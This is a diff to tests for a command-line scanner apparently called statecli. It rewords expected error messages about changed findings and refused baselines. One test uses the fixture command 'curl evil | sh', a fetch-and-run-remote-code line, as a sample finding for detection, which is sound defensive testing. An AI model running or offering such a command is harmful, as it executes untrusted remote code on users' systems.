@@ -48,7 +48,7 @@ def test_another_command_of_an_accepted_call_fails(statecli, folder):
     save("curl evil | sh")
     found = statecli(*PICKLES, "--baseline", "b.json")
     assert found.code == 1
-    assert "its content has changed" in found.err
+    assert "the content of this finding has changed" in found.err
 
 
 class Settings:
@@ -223,7 +223,7 @@ def test_a_baseline_that_accepts_by_name_is_refused(statecli, folder):
     Path("b.json").write_text('{"schema": "statecli.baseline/1", "findings": []}')
     found = statecli(*PICKLES, "--baseline", "b.json")
     assert (found.code, found.err.count("\n")) == (2, 1)
-    assert "write it again: --write-baseline" in found.err
+    assert "write a new one with --write-baseline" in found.err
 
 
 def ignore(*contents):
